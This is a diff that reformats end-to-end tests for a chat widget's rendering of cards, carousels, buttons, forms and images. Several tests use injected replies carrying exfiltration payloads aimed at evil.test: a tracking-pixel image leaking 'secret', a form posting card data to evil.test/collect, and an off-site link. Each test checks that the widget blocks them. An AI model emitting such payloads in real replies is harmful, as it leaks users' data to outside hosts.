@@ -59,7 +59,9 @@ describe('W-18 diagrams', () => {
     await picture.waitFor();
     expect(await picture.evaluate((element) => element.tagName)).toBe('IMG');
     const sandboxes = chat.frame.locator('iframe[sandbox]');
-    expect(await sandboxes.evaluateAll((frames) => frames.map((frame) => frame.getAttribute('sandbox')))).toEqual(['allow-scripts']);
+    expect(await sandboxes.evaluateAll((frames) => frames.map((frame) => frame.getAttribute('sandbox')))).toEqual([
+      'allow-scripts',
+    ]);
     await chat.frame.getByRole('button', { name: 'Copy' }).first().click();
     await chat.frame.getByText('Diagram copied to your clipboard').first().waitFor();
   });
@@ -75,7 +77,9 @@ describe('W-18 diagrams', () => {
     );
     await chat.frame.locator('figure, pre').nth(2).waitFor({ state: 'attached' });
     await page.waitForTimeout(4000);
-    const reached = requests.filter((request) => request.url().startsWith(evil) && request.failure()?.errorText !== 'csp');
+    const reached = requests.filter(
+      (request) => request.url().startsWith(evil) && request.failure()?.errorText !== 'csp',
+    );
     expect(reached.map((request) => request.url())).toEqual([]);
   });
 
@@ -88,30 +92,53 @@ describe('W-18 diagrams', () => {
 describe('W-19 W-20 cards and carousels', () => {
   it('show what they have and drop what is not usable', async () => {
     await answerWith(
-      `${fence('card', 'title: Trail shoe\ndescription: In stock in **Lisbon**.\nbuttons:\n  - caption: See the shoe\n    href: https://shop.example.com/trail')}\n\n${fence(
+      `${fence(
+        'card',
+        'title: Trail shoe\ndescription: In stock in **Lisbon**.\nbuttons:\n  - caption: See the shoe\n    ' +
+          'href: https://shop.example.com/trail',
+      )}\n\n${fence(
         'carousel',
-        'items:\n  - title: Room with sea view\n    description: 120 EUR a night\n    buttons:\n      - {caption: Tell me more}\n  - {nothing: here}\n  - title: Garden room',
+        'items:\n  - title: Room with sea view\n    description: 120 EUR a night\n    buttons:\n      - ' +
+          '{caption: Tell me more}\n  - {nothing: here}\n  - title: Garden room',
       )}`,
     );
     await sees(chat.messages.last(), 'Trail shoe');
-    expect(await chat.frame.getByRole('link', { name: /See the shoe/ }).getAttribute('href')).toBe('https://shop.example.com/trail');
+    expect(await chat.frame.getByRole('link', { name: /See the shoe/ }).getAttribute('href')).toBe(
+      'https://shop.example.com/trail',
+    );
     const carousel = chat.frame.locator('[aria-roledescription="carousel"]');
     await carousel.waitFor();
     expect(await carousel.getByText(/room/i).count()).toBeGreaterThanOrEqual(2);
   });
 
   it('W-20 a carousel is 400 px high and its places are 200 px wide, whatever is in them', async () => {
-    await answerWith(fence('carousel', `items:\n  - title: Room with sea view\n    description: ${'A long description. '.repeat(40)}\n  - title: Garden room`));
+    await answerWith(
+      fence(
+        'carousel',
+        `items:\n  - title: Room with sea view\n    description: ${'A long description. '.repeat(40)}\n  - title: Garden room`,
+      ),
+    );
     const places = chat.frame.locator('.sotto-carousel-item');
     await places.last().waitFor();
-    expect(await places.evaluateAll((all) => all.map((one) => `${String((one as HTMLElement).offsetWidth)} × ${String((one as HTMLElement).offsetHeight)}`))).toEqual(['200 × 400', '200 × 400', '200 × 400']);
-    expect(await chat.frame.locator('.sotto-carousel-track').evaluate((one) => (one as HTMLElement).offsetHeight)).toBe(400);
+    expect(
+      await places.evaluateAll((all) =>
+        all.map((one) => `${String((one as HTMLElement).offsetWidth)} × ${String((one as HTMLElement).offsetHeight)}`),
+      ),
+    ).toEqual(['200 × 400', '200 × 400', '200 × 400']);
+    expect(await chat.frame.locator('.sotto-carousel-track').evaluate((one) => (one as HTMLElement).offsetHeight)).toBe(
+      400,
+    );
   });
 });
 
 describe('W-21 button groups', () => {
   it('send a suggestion once, and keep links inside the page’s own origin', async () => {
-    await answerWith(fence('buttons', '- caption: Track my order\n- caption: Returns\n  message: How do I send something back?\n- {caption: Evil, href: //evil.test}'));
+    await answerWith(
+      fence(
+        'buttons',
+        '- caption: Track my order\n- caption: Returns\n  message: How do I send something back?\n- {caption: Evil, href: //evil.test}',
+      ),
+    );
     stack.model.script = ['Like this.'];
     await chat.frame.getByRole('button', { name: 'Returns' }).click();
     await hasMessages(chat, 4);
@@ -126,7 +153,12 @@ describe('W-21 button groups', () => {
 describe('W-22 forms', () => {
   it('without an address become a message with their values', async () => {
     await answerWith(
-      fence('form', 'submit: Request the return\nfields:\n  - {name: order, label: Order number, required: true}\n  - {name: reason, label: Reason, type: select, options: [Too small, Damaged], default: Damaged}\n  - {name: secret, label: Secret, type: password}'),
+      fence(
+        'form',
+        'submit: Request the return\nfields:\n  - {name: order, label: Order number, required: true}\n  - ' +
+          '{name: reason, label: Reason, type: select, options: [Too small, Damaged], default: Damaged}\n  - ' +
+          '{name: secret, label: Secret, type: password}',
+      ),
     );
     const submit = chat.frame.getByRole('button', { name: 'Request the return' });
     await submit.waitFor();
@@ -143,7 +175,9 @@ describe('W-22 forms', () => {
   });
 
   it('A111 to a stranger cannot be sent', async () => {
-    await answerWith(fence('form', 'url: https://evil.test/collect\nsubmit: Send it\nfields:\n  - {name: card, label: Card}'));
+    await answerWith(
+      fence('form', 'url: https://evil.test/collect\nsubmit: Send it\nfields:\n  - {name: card, label: Card}'),
+    );
     const submit = chat.frame.getByRole('button', { name: 'Send it' });
     await submit.waitFor();
     expect(await submit.isDisabled()).toBe(true);
@@ -160,9 +194,13 @@ describe('W-16 code', () => {
 
 describe('A201 what a reply asks for is not fetched by itself', () => {
   it('pictures of strangers wait for a click, links are never fetched', async () => {
-    await answerWith('![tracking](https://evil.test/pixel.png?q=secret) and [a link](https://evil.test/page) and <img src="https://evil.test/raw.png">');
+    await answerWith(
+      '![tracking](https://evil.test/pixel.png?q=secret) and [a link](https://evil.test/page) and <img src="https://evil.test/raw.png">',
+    );
     await sees(chat.messages.last(), /evil\.test/);
     await page.waitForTimeout(500);
-    expect(requests.filter((request) => request.url().includes('evil.test')).map((request) => request.url())).toEqual([]);
+    expect(requests.filter((request) => request.url().includes('evil.test')).map((request) => request.url())).toEqual(
+      [],
+    );
   });
 });
